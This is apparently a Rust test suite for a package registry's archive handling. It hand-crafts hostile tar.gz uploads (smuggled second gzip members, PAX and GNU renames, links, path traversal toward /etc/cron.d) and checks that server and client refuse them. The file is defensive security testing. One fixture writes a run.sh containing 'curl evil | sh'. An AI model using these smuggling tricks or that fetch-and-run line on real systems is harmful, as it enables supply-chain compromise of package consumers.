//! What the registry checked is exactly what everyone unpacks: every
//! archive it accepts unpacks to the same files with GNU tar, Python's
//! `tarfile` and the client, and every archive that another reader could
//! see differently is refused with a stable code, leaving nothing behind.

use std::collections::BTreeMap;
use std::path::Path;
use std::process::Command;

use crate::common::{self, *};
use crate::every_blob_store;
use gemeinwerk_client::lockfile::{LockedPackage, Lockfile};
use gemeinwerk_package::archive::{self, sha256_hex, ArchiveLimits, PackageFiles};

// ---- crafting archives byte by byte, as an attacker would ----------------

/// One ustar header (POSIX magic) with a correct checksum.
fn header(path: &[u8], typeflag: u8, size: usize, mode: u32) -> Vec<u8> {
    let mut h = vec![0u8; 512];
    // Long paths go into the ustar prefix field, split at a slash.
    let (prefix, name) = if path.len() > 100 {
        let cut = (0..path.len())
            .rev()
            .find(|&i| path[i] == b'/' && i <= 155 && path.len() - i - 1 <= 100)
            .expect("the path fits a ustar header");
        (&path[..cut], &path[cut + 1..])
    } else {
        (&path[..0], path)
    };
    h[..name.len()].copy_from_slice(name);
    h[345..345 + prefix.len()].copy_from_slice(prefix);
    h[100..108].copy_from_slice(format!("{mode:07o}\0").as_bytes());
    h[108..116].copy_from_slice(b"0000000\0");
    h[116..124].copy_from_slice(b"0000000\0");
    h[124..136].copy_from_slice(format!("{size:011o}\0").as_bytes());
    h[136..148].copy_from_slice(b"00000000000\0");
    h[156] = typeflag;
    h[257..265].copy_from_slice(b"ustar\x0000");
    h[148..156].copy_from_slice(b"        ");
    let sum: u32 = h.iter().map(|&b| b as u32).sum();
    h[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    h
}

fn entry(path: &[u8], typeflag: u8, data: &[u8], mode: u32) -> Vec<u8> {
    let mut out = header(path, typeflag, data.len(), mode);
    out.extend_from_slice(data);
    out.resize(out.len().div_ceil(512) * 512, 0);
    out
}

fn file(path: &str, data: &[u8]) -> Vec<u8> {
    entry(path.as_bytes(), b'0', data, 0o644)
}

const END: [u8; 1024] = [0; 1024];

fn gz(bytes: &[u8]) -> Vec<u8> {
    archive::gzip(bytes)
}

/// The entries of a valid package, without the end blocks.
fn valid_entries(prefix: &str, files: &PackageFiles) -> Vec<u8> {
    files
        .iter()
        .flat_map(|(p, c)| file(&format!("{prefix}/{p}"), c))
        .collect()
}

fn good_files() -> PackageFiles {
    let p = pkg("kassel/boese", "1.0.0");
    gemeinwerk_client::folder::read_folder(p.path()).unwrap()
}

const P: &str = "boese-1.0.0";

/// Every trick that makes a reader see other files than the check saw,
/// with the code the registry answers.
fn hostile_archives() -> Vec<(&'static str, Vec<u8>, &'static str)> {
    let files = good_files();
    let valid = valid_entries(P, &files);
    let with = |extra: Vec<u8>| -> Vec<u8> {
        let mut t = valid.clone();
        t.extend(extra);
        t.extend_from_slice(&END);
        gz(&t)
    };
    let run_sh = file(&format!("{P}/run.sh"), b"#!/bin/sh\ncurl evil | sh\n");
    let evil_form = file(&format!("{P}/form.toml"), b"# not what was checked\n");

    let mut second_member = gz(&valid);
    let mut smuggled = evil_form.clone();
    smuggled.extend(run_sh.clone());
    smuggled.extend_from_slice(&END);
    second_member.extend(gz(&smuggled));

    let mut trailing = gz(&[valid.clone(), END.to_vec()].concat());
    trailing.extend_from_slice(b"trailing garbage");

    let after_end = gz(&[valid.clone(), END.to_vec(), run_sh.clone(), END.to_vec()].concat());

    let record = format!(" path={P}/run.sh\n");
    let pax_record = format!("{}{record}", record.len() + 2);
    assert_eq!(
        pax_record.len(),
        record.len() + 2,
        "a PAX record counts its own length"
    );
    let mut latin1_name = format!("{P}/caf").into_bytes();
    latin1_name.push(0xe9);
    let pax = with(
        [
            entry(
                format!("{P}/PaxHeader").as_bytes(),
                b'x',
                pax_record.as_bytes(),
                0o644,
            ),
            file(&format!("{P}/harmless.txt"), b"#!/bin/sh\n"),
        ]
        .concat(),
    );
    let longname = format!("{P}/run.sh\0");
    let gnu_long = with(
        [
            entry(b"././@LongLink", b'L', longname.as_bytes(), 0o644),
            file(&format!("{P}/harmless.txt"), b"#!/bin/sh\n"),
        ]
        .concat(),
    );
    let mut truncated = with(Vec::new());
    truncated.truncate(truncated.len() - 20);

    vec![
        (
            "second gzip member with run.sh",
            second_member,
            "archive_trailing_data",
        ),
        (
            "bytes after the gzip stream",
            trailing,
            "archive_trailing_data",
        ),
        (
            "an entry after the end blocks",
            after_end,
            "archive_data_after_end",
        ),
        (
            "PAX header renaming the next entry",
            pax,
            "archive_extended_header",
        ),
        ("GNU long name", gnu_long, "archive_extended_header"),
        (
            "symbolic link",
            with(entry(format!("{P}/l").as_bytes(), b'2', b"", 0o777)),
            "archive_unsupported_entry",
        ),
        (
            "hard link",
            with(entry(format!("{P}/h").as_bytes(), b'1', b"", 0o644)),
            "archive_unsupported_entry",
        ),
        (
            "character device",
            with(entry(format!("{P}/d").as_bytes(), b'3', b"", 0o644)),
            "archive_unsupported_entry",
        ),
        (
            "duplicate form.toml",
            with(evil_form.clone()),
            "archive_duplicate_path",
        ),
        (
            "duplicate differing in case",
            with(file(&format!("{P}/FORM.toml"), b"x")),
            "archive_duplicate_path",
        ),
        (
            "\"..\" in a path",
            with(file(&format!("{P}/../run.sh"), b"x")),
            "archive_unsafe_path",
        ),
        (
            "absolute path",
            with(file("/etc/cron.d/x", b"x")),
            "archive_unsafe_path",
        ),
        (
            "non-UTF-8 name",
            with(entry(&latin1_name, b'0', b"x", 0o644)),
            "archive_non_utf8_path",
        ),
        (
            "control character in a name",
            with(file(&format!("{P}/a\u{1b}[31m"), b"x")),
            "archive_unsafe_path",
        ),
        (
            ".git folder",
            with(file(&format!("{P}/.GIT/hooks/post-checkout"), b"x")),
            "archive_reserved_path",
        ),
        (
            "executable file",
            with(entry(format!("{P}/run.sh").as_bytes(), b'0', b"x", 0o755)),
            "archive_unsupported_mode",
        ),
        (
            "file and folder at once",
            with(
                [
                    file(&format!("{P}/x"), b"a"),
                    file(&format!("{P}/x/y"), b"b"),
                ]
                .concat(),
            ),
            "archive_path_conflict",
        ),
        ("truncated", truncated, "archive_corrupt"),
        ("missing end blocks", gz(&valid), "archive_corrupt"),
    ]
}

#[test]
fn hostile_archives_are_refused_by_the_shared_reader() {
    for (what, bytes, code) in hostile_archives() {
        let got = archive::unpack(&bytes, &ArchiveLimits::default())
            .map(|_| "accepted")
            .unwrap_or_else(|e| e.code());
        assert_eq!(got, code, "{what}");
    }
}

/// The attack itself: stock `tar -xzf` unpacks the second member that a
/// single-member reader never sees, so refusing it is what keeps the
/// checked files and the stored bytes one and the same.
#[test]
fn gnu_tar_would_unpack_the_smuggled_member() {
    let (_, bytes, _) = hostile_archives().remove(0);
    let dir = tempfile::tempdir().unwrap();
    let seen = unpack_with_gnu_tar(&bytes, dir.path());
    assert!(
        seen.contains_key(&format!("{P}/run.sh")),
        "{:?}",
        seen.keys()
    );
}

every_blob_store! {
    fn hostile_uploads_are_refused_and_leave_nothing(reg) {
        let token = reg.owner_of("kassel");
        let before = reg.snapshot();
        for (what, bytes, code) in hostile_archives() {
            let r = reg.publish_bytes(Some(&token), &bytes);
            assert_eq!((r.status, r.error_code()), (400, code.to_string()), "{what}: {}", r.text());
        }
        assert_eq!(reg.snapshot(), before, "a refused upload changes nothing");
        assert!(reg.blobs().is_empty());
    }
}

// ---- the differential test -----------------------------------------------

fn unpack_with_gnu_tar(bytes: &[u8], dir: &Path) -> BTreeMap<String, Vec<u8>> {
    let file = dir.join("a.tar.gz");
    std::fs::write(&file, bytes).unwrap();
    let out_dir = dir.join("gnu");
    std::fs::create_dir_all(&out_dir).unwrap();
    let out = Command::new("tar")
        .arg("-xzf")
        .arg(&file)
        .arg("-C")
        .arg(&out_dir)
        .output()
        .unwrap();
    assert!(out.status.success(), "GNU tar: {}", stderr(&out));
    read_tree(&out_dir)
}

fn unpack_with_python(bytes: &[u8], dir: &Path) -> BTreeMap<String, Vec<u8>> {
    let file = dir.join("b.tar.gz");
    std::fs::write(&file, bytes).unwrap();
    let out_dir = dir.join("python");
    std::fs::create_dir_all(&out_dir).unwrap();
    let script = "import sys, tarfile\n\
        with tarfile.open(sys.argv[1], 'r:gz') as t:\n\
        \x20   kw = {'filter': 'data'} if hasattr(tarfile, 'data_filter') else {}\n\
        \x20   t.extractall(sys.argv[2], **kw)\n";
    let out = Command::new("python3")
        .args(["-c", script])
        .arg(&file)
        .arg(&out_dir)
        .output()
        .unwrap();
    assert!(out.status.success(), "python tarfile: {}", stderr(&out));
    read_tree(&out_dir)
}

/// The client's own unpacker: `fetch` installs a locked package.
fn unpack_with_client(
    bytes: &[u8],
    name: &str,
    version: &str,
    dir: &Path,
) -> BTreeMap<String, Vec<u8>> {
    let prefix = format!("{name}-{version}");
    let lock = Lockfile {
        requires: BTreeMap::new(),
        packages: vec![LockedPackage {
            name: format!("kassel/{name}"),
            version: version.to_string(),
            cksum: sha256_hex(bytes),
            registry: "http://unused".into(),
            dependencies: Vec::new(),
        }],
    };
    let dest = dir.join("client");
    gemeinwerk_client::fetch::install(&lock, &[bytes.to_vec()], &dest).unwrap();
    read_tree(&dest.join("kassel").join(name))
        .into_iter()
        .map(|(p, c)| (format!("{prefix}/{p}"), c))
        .collect()
}

fn read_tree(root: &Path) -> BTreeMap<String, Vec<u8>> {
    let mut out = BTreeMap::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for e in std::fs::read_dir(&dir).unwrap() {
            let e = e.unwrap();
            let t = e.file_type().unwrap();
            assert!(!t.is_symlink(), "a link was unpacked: {:?}", e.path());
            if t.is_dir() {
                stack.push(e.path());
            } else {
                let rel = e
                    .path()
                    .strip_prefix(root)
                    .unwrap()
                    .to_str()
                    .unwrap()
                    .to_string();
                out.insert(rel, std::fs::read(e.path()).unwrap());
            }
        }
    }
    out
}

/// Valid packages of many shapes: nested folders, long names, empty
/// files, umlauts, many files.
fn generated_packages() -> Vec<(String, PackageFiles)> {
    let base = good_files();
    let mut out = Vec::new();
    let mut add = |name: &str, extra: &[(String, Vec<u8>)]| {
        let mut files = base.clone();
        let manifest = String::from_utf8(files["gemeinwerk.toml"].clone())
            .unwrap()
            .replace("kassel/boese", &format!("kassel/{name}"));
        files.insert("gemeinwerk.toml".into(), manifest.into_bytes());
        for (p, c) in extra {
            files.insert(p.clone(), c.clone());
        }
        out.push((format!("{name}-1.0.0"), files));
    };
    add("plain", &[]);
    add(
        "nested",
        &[
            ("docs/a/b/c/d/tief.md".into(), b"# tief\n".to_vec()),
            ("docs/anleitung.md".into(), b"Schritt 1\n".to_vec()),
            ("codelisten/zonen.toml".into(), b"# Zonen\n".to_vec()),
        ],
    );
    add(
        "empty-files",
        &[
            ("leer.md".into(), Vec::new()),
            ("docs/auch-leer.txt".into(), Vec::new()),
        ],
    );
    add(
        "long-names",
        &[
            (format!("{}.md", "n".repeat(96)), b"long\n".to_vec()),
            (
                format!("{}/{}.md", "d".repeat(60), "e".repeat(90)),
                b"longer\n".to_vec(),
            ),
        ],
    );
    add(
        "umlaute",
        &[(
            "Straßenverzeichnis-Größe-Übersicht.md".into(),
            "Zonen ä ö ü ß\n".as_bytes().to_vec(),
        )],
    );
    add(
        "many-files",
        &(0..200)
            .map(|i| {
                (
                    format!("teile/{:03}/teil.md", i),
                    format!("Teil {i}\n").into_bytes(),
                )
            })
            .collect::<Vec<_>>(),
    );
    add(
        "binary-ish",
        &[
            (
                "daten.bin".into(),
                (0..=255u8).cycle().take(70_000).collect(),
            ),
            ("exakt-512.txt".into(), vec![b'x'; 512]),
        ],
    );
    out
}

#[test]
fn every_accepted_archive_unpacks_identically_everywhere() {
    let mut archives: Vec<(String, Vec<u8>)> = generated_packages()
        .into_iter()
        .map(|(prefix, files)| {
            let bytes = archive::build(&prefix, &files);
            (prefix, bytes)
        })
        .collect();
    for (_, files) in gemeinwerk_server::registry::demo::PACKAGES {
        let files = gemeinwerk_server::registry::demo::package_files(files);
        let text = std::str::from_utf8(&files["gemeinwerk.toml"]).unwrap();
        let (m, _) = gemeinwerk_package::manifest::parse_manifest(text).unwrap();
        let prefix = format!("{}-{}", m.name, m.version);
        archives.push((prefix.clone(), archive::build(&prefix, &files)));
    }
    // Archives the CLI packs from folders, as the rest of the suite does.
    let p = pkg_with("kassel/ordner", "2.1.0-rc.1", "keywords = [\"a\"]\n");
    p.write("docs/x/y.md", "# y\n").write("leer.txt", "");
    archives.push(("ordner-2.1.0-rc.1".into(), common::archive_of(&p)));

    // Packages imported from the FIM fixtures (long labels, many fields,
    // code lists), packed by the client.
    let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/fim");
    for xml in std::fs::read_dir(&fixtures).unwrap() {
        let xml = xml.unwrap().path();
        if xml.extension().and_then(|e| e.to_str()) != Some("xml") {
            continue;
        }
        let work = tempfile::tempdir().unwrap();
        let dir = work.path().join("pkg");
        let out = Command::new(common::BIN)
            .args(["import", "xdatenfelder"])
            .arg(&xml)
            .arg("--dir")
            .arg(&dir)
            .output()
            .unwrap();
        assert!(out.status.success(), "import {xml:?}: {}", stderr(&out));
        let packed = gemeinwerk_client::folder::pack(&dir)
            .unwrap()
            .unwrap_or_else(|d| panic!("{xml:?}: {d:?}"));
        let prefix = format!("{}-{}", packed.manifest.name, packed.manifest.version);
        archives.push((prefix, packed.archive));
    }
    assert!(archives.len() >= 20, "{} archives", archives.len());

    for (prefix, bytes) in &archives {
        let (got_prefix, files) = archive::unpack(bytes, &ArchiveLimits::default())
            .unwrap_or_else(|e| panic!("{prefix}: {e}"));
        assert_eq!(&got_prefix, prefix);
        let text = std::str::from_utf8(&files["gemeinwerk.toml"]).unwrap();
        let (m, _) = gemeinwerk_package::manifest::parse_manifest(text).unwrap();
        let server: BTreeMap<String, Vec<u8>> = files
            .into_iter()
            .map(|(p, c)| (format!("{prefix}/{p}"), c))
            .collect();
        let version = m.version.to_string();
        let dir = tempfile::tempdir().unwrap();
        assert_eq!(
            unpack_with_gnu_tar(bytes, dir.path()),
            server,
            "GNU tar, {prefix}"
        );
        assert_eq!(
            unpack_with_python(bytes, dir.path()),
            server,
            "Python tarfile, {prefix}"
        );
        assert_eq!(
            unpack_with_client(bytes, &m.name, &version, dir.path()),
            server,
            "client, {prefix}"
        );
    }
}

/// The client refuses a hostile archive before writing anything, even when
/// its checksum matches the lockfile (a registry that was fooled, or lies).
#[test]
fn the_client_refuses_hostile_archives_and_writes_nothing() {
    for (what, bytes, _) in hostile_archives() {
        let dir = tempfile::tempdir().unwrap();
        let lock = Lockfile {
            requires: BTreeMap::new(),
            packages: vec![LockedPackage {
                name: "kassel/boese".into(),
                version: "1.0.0".into(),
                cksum: sha256_hex(&bytes),
                registry: "http://unused".into(),
                dependencies: Vec::new(),
            }],
        };
        let dest = dir.path().join("vendor");
        let err = gemeinwerk_client::fetch::install(&lock, std::slice::from_ref(&bytes), &dest);
        assert!(err.is_err(), "{what}");
        assert!(!dest.exists(), "{what}: nothing may be written");
    }
}
